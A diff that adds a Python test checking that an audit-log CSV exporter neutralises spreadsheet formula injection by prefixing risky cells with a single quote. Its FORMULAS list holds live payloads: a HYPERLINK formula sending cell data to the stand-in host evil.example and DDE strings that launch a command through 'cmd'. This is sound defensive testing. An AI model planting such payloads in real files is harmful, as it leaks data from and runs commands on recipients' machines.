@@ -136,3 +136,39 @@ def test_export_streams(session_factory, session, monkeypatch) -> None:
     _seed(session_factory, *(base + timedelta(minutes=m) for m in range(5)))
     out = io.StringIO()
     assert export_audit_csv(session, out, since=base, until=base + timedelta(days=1)) == 5
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Initech")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_export_quotes_text_a_spreadsheet_would_run_as_a_formula(session_factory, session):
+    """A refused guest's query (or any other text cell) starting with = + - @, tab or CR is
+    written with a leading single quote (OWASP CSV injection); other text is left alone."""
+    at = datetime(2026, 11, 2, tzinfo=UTC)
+    for number, query in enumerate([*FORMULAS, "Initech = ACME", "'quoted"]):
+        entry = AuditEntry(
+            surface="=callback" if number == 0 else "/license",
+            outcome="denied",
+            user_id=f"UGUEST{number}",
+            team_id="T1",
+            query=query,
+            reason="guest",
+        )
+        record_audit(session_factory, entry, now=at + timedelta(seconds=number))
+    out = io.StringIO()
+    export_audit_csv(session, out, since=at, until=at + timedelta(days=1))
+    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))  # keep the CR
+    assert [row["query"] for row in rows] == [
+        *("'" + formula for formula in FORMULAS),
+        "Initech = ACME",
+        "'quoted",
+    ]
+    assert rows[0]["surface"] == "'=callback"
+    assert {row["result_count"] for row in rows} == {"0"}
